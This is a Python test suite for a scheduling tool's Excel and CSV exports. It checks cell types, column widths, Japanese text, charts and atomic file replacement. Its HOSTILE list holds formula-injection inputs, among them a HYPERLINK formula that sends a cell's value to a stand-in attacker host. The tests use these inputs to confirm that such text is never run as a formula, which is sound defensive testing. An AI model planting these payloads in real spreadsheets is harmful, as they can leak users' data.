"""The spreadsheet files a coordinator opens in Excel: typed cells, a frozen header,
fitted columns, Japanese text intact, text that never runs as a formula, and a file that
is replaced whole or not at all."""

from __future__ import annotations

import csv
import io
import os
import zipfile
from collections.abc import Iterator
from datetime import date, datetime
from pathlib import Path
from typing import BinaryIO

import pytest
from openpyxl import load_workbook

from cpp_scheduler.files import FileWriteError, write_atomically
from cpp_scheduler.reports.csvfile import BOM, csv_paths, csv_text, write_csv, write_csv_files
from cpp_scheduler.reports.tables import ColumnType, Table, table
from cpp_scheduler.reports.xlsx import BarChartSpec, display_width, write_xlsx

T = ColumnType
HOSTILE = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+81 3 1234 5678",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def sample() -> Table:
    return table(
        "Agenda",
        [
            ("Title", T.TEXT),
            ("Start (Asia/Tokyo)", T.DATETIME),
            ("Day", T.DATE),
            ("Hours", T.HOURS),
            ("Meetings", T.INTEGER),
        ],
        [
            ("神戸市 防災ワークショップ", datetime(2027, 3, 10, 9, 30), date(2027, 3, 10), 2.5, 3),
            ("Smart city site visit, Yokohama", datetime(2027, 3, 8, 14, 0), None, 2.0, -1),
        ],
    )


@pytest.fixture
def umask() -> Iterator[int]:
    """A known umask for the test, the previous one restored after it."""
    previous = os.umask(0o027)
    yield 0o027
    os.umask(previous)


def test_xlsx_cells_keep_their_types_under_a_frozen_header(tmp_path: Path) -> None:
    path = write_xlsx([sample()], tmp_path / "agenda.xlsx")
    sheet = load_workbook(path)["Agenda"]
    assert sheet.freeze_panes == "A2"
    assert [cell.value for cell in sheet[1]] == [
        "Title",
        "Start (Asia/Tokyo)",
        "Day",
        "Hours",
        "Meetings",
    ]
    assert all(cell.font.b for cell in sheet[1])
    title, start, day, hours, count = sheet[2]
    assert title.value == "神戸市 防災ワークショップ"
    assert start.is_date
    assert start.value == datetime(2027, 3, 10, 9, 30)
    assert start.number_format == "yyyy-mm-dd hh:mm"
    assert day.is_date
    assert day.number_format == "yyyy-mm-dd"
    assert day.value == datetime(2027, 3, 10)  # Excel keeps a date as midnight of that day
    assert hours.data_type == "n"
    assert hours.value == 2.5
    assert count.data_type == "n"
    assert count.value == 3
    assert sheet["E3"].value == -1
    assert sheet["C3"].value is None


def test_xlsx_columns_are_as_wide_as_their_text(tmp_path: Path) -> None:
    sheet = load_workbook(write_xlsx([sample()], tmp_path / "a.xlsx"))["Agenda"]
    title_width = sheet.column_dimensions["A"].width
    # "Smart city site visit, Yokohama" (31) is the longest; the Japanese title is 14
    # characters but 26 columns wide.
    assert 31 <= title_width <= 40
    assert sheet.column_dimensions["B"].width >= len("Start (Asia/Tokyo)")


def test_one_sheet_per_table_with_names_excel_takes(tmp_path: Path) -> None:
    first = sample()
    second = table("Members: a/b [x]", [("Name", T.TEXT)], [("Ana",)])
    third = table("Members: a/b [x]", [("Name", T.TEXT)], [("Bo",)])
    book = load_workbook(write_xlsx([first, second, third], tmp_path / "b.xlsx"))
    assert book.sheetnames == ["Agenda", "Members- a-b -x-", "Members- a-b -x- (2)"]


@pytest.mark.parametrize("text", HOSTILE)
def test_xlsx_text_never_becomes_a_formula(tmp_path: Path, text: str) -> None:
    hostile = table(f"{text[:1]}Sheet", [(text, T.TEXT), ("Title", T.TEXT)], [(text, text)])
    path = write_xlsx([hostile], tmp_path / "hostile.xlsx")
    sheet = load_workbook(path).worksheets[0]
    for cell in (sheet["A1"], sheet["A2"], sheet["B2"]):
        assert cell.data_type == "s"
        # XML reads a carriage return back as a line feed; the text is otherwise kept.
        assert cell.value == text.replace("\r", "\n")
        assert cell.quotePrefix  # as if typed after an apostrophe: editing keeps it text
    assert b"<f>" not in zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_text_never_becomes_a_formula(text: str) -> None:
    hostile = table("Agenda", [("Title", T.TEXT), ("Count", T.INTEGER)], [(text, -3)])
    rows = list(csv.reader(io.StringIO(csv_text(hostile).removeprefix(BOM))))
    assert rows[1] == ["'" + text, "-3"]  # the number stays a number


def test_control_characters_do_not_stop_a_workbook(tmp_path: Path) -> None:
    """A title pasted from a word processor (vertical tab, form feed, a stray NUL)."""
    pasted = table("Agenda", [("Title", T.TEXT)], [("Kobe\vDRR\fworkshop\x00 day 1",)])
    sheet = load_workbook(write_xlsx([pasted], tmp_path / "p.xlsx"))["Agenda"]
    assert sheet["A2"].value == "Kobe\nDRR\nworkshop day 1"


def test_csv_opens_in_excel_with_japanese_text_and_iso_dates(tmp_path: Path) -> None:
    path = write_csv(sample(), tmp_path / "agenda.csv")
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream))
    assert rows[0] == ["Title", "Start (Asia/Tokyo)", "Day", "Hours", "Meetings"]
    assert rows[1] == ["神戸市 防災ワークショップ", "2027-03-10 09:30", "2027-03-10", "2.50", "3"]
    assert rows[2][2] == ""
    assert b"\r\n" in data


def test_several_tables_go_to_files_beside_each_other(tmp_path: Path) -> None:
    tables = [sample(), table("Members", [("Name", T.TEXT)], [("Ana",)])]
    written = write_csv_files(tables, tmp_path / "delegations.csv")
    assert [p.name for p in written] == ["delegations.csv", "delegations-members.csv"]
    assert csv_paths(tmp_path / "d.csv", tables)[1].name == "d-members.csv"
    assert (tmp_path / "delegations-members.csv").read_text("utf-8-sig").splitlines() == [
        "Name",
        "Ana",
    ]


def test_report_workbook_carries_native_bar_charts(tmp_path: Path) -> None:
    by_theme = table(
        "By theme",
        [("Theme", T.TEXT), ("Meetings", T.INTEGER), ("Hours", T.HOURS)],
        [("Urban planning", 3, 7.5), ("Municipal finance", 0, 0.0)],
    )
    path = write_xlsx(
        [sample(), by_theme], tmp_path / "r.xlsx", [BarChartSpec("By theme", "Hours", "Hours")]
    )
    names = zipfile.ZipFile(path).namelist()
    charts = [name for name in names if name.startswith("xl/charts/chart")]
    assert len(charts) == 1
    chart = zipfile.ZipFile(path).read(charts[0]).decode()
    assert "<barChart>" in chart
    assert '<barDir val="bar" />' in chart
    assert "'By theme'!$C$2:$C$3" in chart  # the hours, read from the sheet itself
    assert "'By theme'!$A$2:$A$3" in chart


def test_a_file_is_replaced_whole_with_the_users_permissions(tmp_path: Path, umask: int) -> None:
    path = tmp_path / "agenda.xlsx"
    path.write_bytes(b"the previous export")

    def fail(stream: BinaryIO) -> None:
        stream.write(b"half a file")
        raise OSError("disk full")

    with pytest.raises(FileWriteError, match="disk full"):
        write_atomically(path, fail)
    assert path.read_bytes() == b"the previous export"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["agenda.xlsx"]

    fresh = tmp_path / "fresh.csv"
    write_csv(sample(), fresh)
    assert fresh.stat().st_mode & 0o777 == 0o666 & ~umask


def test_a_cell_of_several_lines_wraps_at_its_breaks_and_one_line_does_not(
    tmp_path: Path,
) -> None:
    """Excel shows a cell's line breaks only when the cell wraps: an address in English
    above its Japanese form would otherwise read as one run-together line."""
    address = (
        "10th Floor, 2-2-2 Uchisaiwaicho, Tokyo 100-0011\n〒100-0011 東京都千代田区内幸町2-2-2"
    )
    places = table(
        "Places",
        [("Venue", T.TEXT), ("Address", T.TEXT), ("Seats", T.INTEGER)],
        [("TDLC", address, 40), ("Kobe", "One line only", 20)],
    )
    sheet = load_workbook(write_xlsx([places], tmp_path / "p.xlsx")).worksheets[0]
    several = sheet["B2"]
    assert several.value == address
    assert several.alignment.wrap_text is True
    assert several.alignment.vertical == "top"
    for one_line in ("A2", "B3", "C2", "B1"):
        assert not sheet[one_line].alignment.wrap_text, one_line
    # The column is as wide as the longest line (a Japanese character two), not the whole.
    longest = max(display_width(line) for line in address.splitlines())
    assert sheet.column_dimensions["B"].width == longest + 2
